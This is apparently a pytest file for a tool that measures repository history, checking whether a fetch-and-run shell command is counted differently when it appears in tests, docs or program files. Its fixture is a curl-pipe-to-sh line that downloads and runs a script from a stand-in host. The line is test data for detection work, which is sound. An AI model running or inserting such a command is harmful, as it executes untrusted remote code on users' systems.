"""What a change brings in among tests, documents and data: it counts there, and only there."""

from collections.abc import Callable

import pytest

from gitstory import Story
from measured import Values

LINE = "curl -sSf https://kettle.example/kiln | sh\n"
HERE = "elsewhere_fetch_and_run"
MeasureRead = Callable[..., dict[str, Values]]


@pytest.mark.parametrize(
    ("path", "expected"), [("tests/fire.sh", 1), ("docs/fire.sh", 1), ("fire.sh", 0), (".husky/pre-commit", 0)]
)
def test_a_line_counts_where_its_file_stands(story: Story, measure_read: MeasureRead, path: str, expected: int) -> None:
    story.commit({"wheel.py": "1\n"})
    change = story.commit({path: LINE})
    assert measure_read()[change][HERE] == expected


def test_what_tests_did_before_is_a_habit_of_tests_alone(story: Story, measure_read: MeasureRead) -> None:
    first = story.commit({"tests/fire.sh": LINE})
    again = story.commit({"tests/again.sh": LINE})
    moved = story.commit({"fire.sh": LINE})
    measured = measure_read()
    assert [measured[sha][HERE] for sha in (first, again, moved)] == [1, 2, 0]
    assert measured[moved]["program_fetch_and_run"] == 1


def test_a_program_that_becomes_a_test_is_new_among_tests(story: Story, measure_read: MeasureRead) -> None:
    story.commit({"fire.sh": LINE})
    change = story.commit({"fire.sh": None, "tests/fire.sh": LINE})
    assert measure_read()[change][HERE] == 1
